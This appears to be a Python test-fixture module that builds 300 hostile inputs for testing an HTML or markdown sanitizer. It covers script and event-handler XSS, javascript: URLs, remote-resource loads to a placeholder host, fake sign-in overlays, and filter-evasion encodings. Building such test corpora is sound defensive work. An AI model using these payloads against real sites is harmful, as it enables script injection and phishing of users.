"""Three hundred hostile texts. Each sets `window.hacked`, asks elsewhere.invalid, or covers a page.

Every attribute that would do something holds one of the two words, so that a page can be searched
for what slipped through.
"""

from __future__ import annotations

from itertools import product

RUN = "window.hacked=1"
AWAY = "http://elsewhere.invalid"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}/p.png>",
    f"<img srcset='{AWAY}/p.png 2x'>",
    f"<picture><source srcset={AWAY}/p><img></picture>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href={AWAY}/x.svg#hacked></use></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><image href={AWAY}/p.png></image></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data={AWAY}/x.swf></object>",
    f"<embed src={AWAY}/x.swf>",
    f"<video src={AWAY}/v.mp4 autoplay onerror={RUN}></video>",
    f"<video poster={AWAY}/p.png></video>",
    f"<audio src={AWAY}/a.mp3 autoplay onerror={RUN}></audio>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<link rel=preload as=image href={AWAY}/p.png>",
    f"<style>@import url({AWAY}/x.css); body{{--hacked:1}}</style>",
    f"<style>*{{background:url({AWAY}/bg.png)}}</style>",
    f"<div style=background:url({AWAY}/bg.png)>hacked</div>",
    "<div style='position:fixed;inset:0;z-index:9999;--hacked:1'>Sign in again</div>",
    "<dialog open style='position:fixed;inset:0;--hacked:1'>hacked</dialog>",
    f"<form action={AWAY}><input name=hacked><button>Sign in</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<button form=x formaction={AWAY}>hacked</button>",
    f"<select onfocus={RUN} autofocus></select>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<body onload={RUN}>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<a href={AWAY} ping={AWAY}/ping>click</a>",
    f"<base href={AWAY}/>",
    f"<div data-ask='hacked' onclick={RUN}>x</div>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
TEXTS = (
    f"![p]({AWAY}/p.png)",
    f"[x](javascript:{RUN})",
    f"[x]: {AWAY}",
    f"<{AWAY}/auto>",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\includegraphics{{{AWAY}/p.png}}$$",
    f"```html\n<img src=x onerror={RUN}>\n```",
    f"```mermaid\ngraph TD; a-->b; click a href '{AWAY}'\n```",
    f"{{{{{RUN}}}}} ${{{RUN}}} <%={RUN}%> #{{{RUN}}}",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "=HYPERLINK('http://elsewhere.invalid','hacked')",
    "[1] [2](#hacked) [^1] footnote",
    "\u202edekcah\u202c \u2066hacked\u2069 \x00\x1b]0;hacked\x07 \x1b[31m",
    "hacked\ufeff\u200b\u200d\ufffe " + "z̸̢̛" * 40 + " \U000e0041",
    "hacked" * 60,
)
FRAMES = (
    "{}",
    '">{}',
    "'>{}",
    "</p></div></blockquote></section>{}",
    "--></textarea></title></style></script>{}",
    "]]>{}",
)
"""What would close whatever the text was put into."""


def payloads() -> list[str]:
    """All 300, the same ones in the same order each time."""
    framed = [frame.format(markup) for frame, markup in product(FRAMES, MARKUP)]
    cased = [one.replace("<", "<\t", 1).swapcase().replace("HACKED", "hacked") for one in MARKUP]
    return (framed + list(TEXTS) + odd_cases() + cased)[:300]


def odd_cases() -> list[str]:
    """Markup written as filters overlook it."""
    return [
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<ScRiPt >{RUN}</ScRiPt >",
        f"<img/src=x/onerror={RUN}>",
        f"<img src=x onerror\n=\n{RUN}>",
        f"<<img src=x onerror={RUN}//",
        f"<img src=x:x onerror\x0b={RUN}>",
        f"<svg/onload={RUN}//",
        f"<a href='java\tscript:{RUN}'>x</a>",
        f"<a href=&#106;avascript:{RUN}>x</a>",
        f"<img src=`x` onerror={RUN}>",
        f"\x00<script>{RUN}</script>",
        f"<x onpointerenter={RUN} style=position:fixed;inset:0;--hacked:1>x",
        f"<p id=nc-box class=nc-notice name=hacked>{RUN}</p>",
        f"<nc-log onclick={RUN}>x</nc-log>",
        f"＜script＞{RUN}＜/script＞",
        f"<img src=x onerror=\u2028{RUN}>",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<![CDATA[<img src=x onerror={RUN}>]]>",
        f"<?xml-stylesheet href='{AWAY}/x.css'?>",
        f"<a style=position:absolute;inset:0;--hacked:1 href={AWAY}>x</a>",
    ]
